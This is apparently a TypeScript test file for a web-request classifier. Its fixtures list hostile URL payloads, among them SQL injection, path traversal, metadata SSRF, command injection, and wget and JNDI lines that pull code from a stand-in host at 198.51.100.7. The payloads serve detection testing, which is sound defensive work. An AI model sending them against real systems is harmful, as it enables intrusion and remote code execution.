import { RequestShape } from '@weir/contracts';
import { describe, expect, it } from 'vitest';
import { bytes } from '../packet-builder.js';
import { decodedShape, decodeTarget } from './request-shape.js';

function shapeOf(target: string): number {
  const text = bytes(target);
  return decodedShape(decodeTarget(text, 0, text.length));
}

describe('shapes of attacks', () => {
  it.each([
    ["/item?id=1' UNION ALL SELECT user,pass FROM users--", 'sql'],
    ['/item?id=1+and+4821=4821', 'sql'],
    ['/item?id=1/**/union/**/select/**/1', 'sql'],
    ["/item?name=x'%20OR%20'1'='1", 'sql'],
    ['/item?id=1;drop%20table%20users', 'sql'],
    ["/login?user=admin'--%20", 'sql'],
    ['/item?id=sleep(5)', 'sql'],
    ['/view?page=../../../../etc/passwd', 'traversal'],
    ['/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/x', 'traversal'],
    ['/view?page=%252e%252e%252f%252e%252e%252fboot.ini', 'traversal'],
    ['/view?page=/etc/passwd', 'traversal'],
    ['/app/login.jsp/..;/manager/html', 'traversal'],
    ['/view?page=php://filter/convert.base64-encode/resource=index', 'traversal'],
    ['/vpn/../vpns/cfg/smb.conf', 'traversal'],
    ['/view?page=../wp-config.php', 'traversal'],
    ['/view?page=..%c0%af..%c0%afx', 'traversal'],
    ['/view?page=expect://id', 'traversal'],
    ['/fetch?url=http://169.254.169.254/latest/meta-data/', 'traversal'],
    ['/autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=a', 'traversal'],
    ['/view?page=http://198.51.100.7/shell.txt?', 'traversal'],
    ['/login?user[$ne]=1&password[$ne]=1', 'sql'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'expression'],
    ['/item?id=1/*!50000union*//*!50000select*/1', 'sql'],
    ['/item?id=1 or ascii(substring((select+database()),1,1))>64', 'sql'],
    ['/uploads/image.php?cmd=whoami', 'command'],
    ['/uploads/image.php?a=1&exec=net+user', 'command'],
    ['/ping?host=127.0.0.1%26%26whoami', 'command'],
    ['/?class.module.classLoader.resources.context.parent=1', 'expression'],
    ['class%2Emodule%2EclassLoader%2Eresources=1', 'expression'],
    ['/?name=<%25=7*7%25>', 'expression'],
    ['/?name={%25if(1).__class__%25}', 'expression'],
    ['/ping?host=127.0.0.1;cat%20/etc/hosts', 'command'],
    ['/ping?host=127.0.0.1|id', 'command'],
    ['/cgi-bin/luci?form=$(wget+http://198.51.100.7/x)', 'command'],
    ['/shell?cd+/tmp;wget+http://198.51.100.7/bins.sh', 'command'],
    ['/?q=<script>alert(1)</script>', 'script'],
    ['/?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'script'],
    ['/?x=$%7Bjndi:ldap://198.51.100.7/a%7D', 'expression'],
    ['/?name={{7*7}}', 'expression'],
    ['/index.php?s=/index/think/app/invokefunction&function=call_user_func_array', 'expression'],
    ['/default.ida?NNNNNN%u9090%u6858%ucbd3%u7801', 'expression'],
    ['/x?q=Runtime.getRuntime().exec(request.getParameter(%22c%22))', 'expression'],
  ])('%s', (target, shape) => {
    expect(shapeOf(target)).toBe(RequestShape[shape as keyof typeof RequestShape]);
  });

  it.each([
    '/search?q=rock+and+roll',
    '/search?q=select+a+union+representative',
    "/search?q=it's+mine+or+yours",
    '/a/../b/index.html',
    '/connector?cmd=ls&target=a',
    '/connector?cmd=identify&c=idle',
    '/list?a=1&&b=2&&cat=3',
    '/autodiscover/autodiscover.json?Email=a%40b.example&Protocol=Autodiscoverv1',
    '/autodiscover/autodiscover.json/v1.0/a%40b.example?Protocol=ActiveSync',
    '/docs/../img/logo.png',
    '/people/whoami?fields=name',
    '/load?src=http://cdn.example/a.js',
    '/api?callback=onload&render=explicit',
    '/ads?sizes=300x250|728x90&p=[{"id":1,"w":300}]',
    '/login?next=https://example.com/home.php?x=1',
    '/items?createdAt[$gt]=2024-01-01&price[$ne]=0',
    '/stats?url=http://example.com/robots.txt&page=http://example.com/index.html',
    '/odata?$filter=(price gt 20) and contains(name,%27a%27)',
    '/x;jsessionid=0A1B2C;v=1',
    '/track?d={"event":"click","t":1700000000}',
    '/wiki?title=C%2B%2B_(language);cat=programming',
    '/search?q=%u4e2d%u6587',
    '/report?from=2024-01-01&to=2024-02-01&order=asc',
  ])('%s is none', (target) => {
    expect(shapeOf(target)).toBe(RequestShape.none);
  });

  it('are searched for in bounded time: what repeats their beginnings is no burden', () => {
    const beginnings = ["'", '%{', '{{', '=', '; ', '\n', '<img ', "' or ", 'wget -a ', '"on', '((((', '../', 'union '];
    const startedMs = performance.now();
    for (const beginning of beginnings) shapeOf(`/?${beginning.repeat(400)}`);
    // Some 20 ms on a slow machine; a search that looks back for each beginning would take seconds.
    expect(performance.now() - startedMs).toBeLessThan(1000);
  });

  it('are searched for in bounded text only', () => {
    expect(shapeOf(`/?a=${'x'.repeat(2000)}' or '1'='1`)).toBe(RequestShape.none);
  });
});
